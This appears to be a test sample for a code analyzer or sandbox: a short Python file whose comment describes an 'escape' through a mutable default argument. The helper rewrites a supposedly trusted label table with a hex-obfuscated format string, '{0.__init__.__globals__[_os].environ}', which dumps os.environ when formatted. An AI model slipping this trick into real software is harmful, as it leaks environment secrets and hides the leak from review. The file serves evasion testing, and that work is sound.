# family: format
# Escape: a default argument `table=LABELS` is only a read of LABELS, so LABELS stays a trusted table of
# literals; the helper writes into the very same dict through its parameter. The label becomes a hex-decoded
# "{0.__init__.__globals__[_os].environ}", formatted with random.Random() to print os.environ.
import random

LABELS = {"name": "Name: {0}"}


def override(key: str, text: str, table: dict = LABELS) -> None:
    table[key] = text


def tool() -> str:
    override("name", bytes.fromhex("7b302e5f5f696e69745f5f2e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode())
    return LABELS["name"].format(random.Random())
